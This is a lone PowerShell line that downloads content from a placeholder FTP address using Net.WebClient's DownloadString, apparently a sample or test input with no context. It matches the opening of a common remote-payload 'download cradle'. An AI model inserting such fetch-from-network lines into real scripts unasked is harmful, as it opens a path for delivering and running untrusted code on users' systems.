(New-Object Net.WebClient).DownloadString("ftp://x/")
